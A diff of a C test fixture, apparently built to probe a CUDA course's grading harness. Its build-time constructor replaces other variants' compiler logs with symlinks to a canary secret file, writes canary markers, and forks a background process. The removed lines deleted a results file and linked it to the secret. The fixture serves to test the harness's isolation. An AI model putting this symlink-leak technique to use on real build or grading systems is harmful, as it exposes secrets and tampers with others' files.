@@ -1,25 +1,43 @@
-/* Step 09, whose flags have nvcc run the program that it has built, inside make: there it writes
- * where the referee reads. Right results. */
+/* Step 09, whose flags have nvcc run the program that it has built, inside make. There it may write in
+ * the folder of the build: it puts links to others' files in the place of the compiler's logs, which
+ * the referee shows when a program is missing. Right results. */
+#include <dirent.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
+#include <string.h>
 #include <unistd.h>
 
-__attribute__((constructor)) static void write_in_build(void) {
-    static const char *const paths[] = {"@CANARIES@/touched", "@OUT@/touched",
-                                        "/tmp/hostile-touched", "@COURSE@/build/touched"};
+/* Every log of every variant's folder. */
+static void link_logs(const char *build) {
+    DIR *folder = opendir(build);
+    struct dirent *entry;
 
-    if (fcntl(3, F_GETFD) >= 0 && fcntl(7, F_GETFD) >= 0)
-        return; /* below the referee */
-    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
-        FILE *file = fopen(paths[i], "a");
+    while (folder && (entry = readdir(folder))) {
+        char path[4096];
 
-        if (file) {
-            fputs("86 ran in make\n", file);
-            fclose(file);
-        }
+        if (*entry->d_name == '.')
+            continue;
+        snprintf(path, sizeof path, "%s/%s/cuda.log", build, entry->d_name);
+        if (unlink(path) == 0 && symlink("@CANARIES@/secret", path))
+            perror(path);
     }
-    (void)!system("echo 86 >>@CANARIES@/touched; rm -f players.tsv; "
-                  "ln -s @CANARIES@/secret players.tsv; sleep 600 &");
+    if (folder)
+        closedir(folder);
+}
+
+__attribute__((constructor)) static void run_in_make(void) {
+    const char *source = getenv("SOURCE");
+    char build[4096];
+    FILE *file;
+
+    if (!source || fcntl(7, F_GETFD) >= 0)
+        return; /* below the referee */
+    snprintf(build, sizeof build, "%.*s/build", (int)(strrchr(source, '/') - source), source);
+    link_logs(build);
+    if ((file = fopen("@CANARIES@/touched", "a")))
+        fputs("86 ran in make\n", file);
+    (void)!system("sleep 600 &");
+    exit(1);
 }
 @SOLUTION 09_ftz@
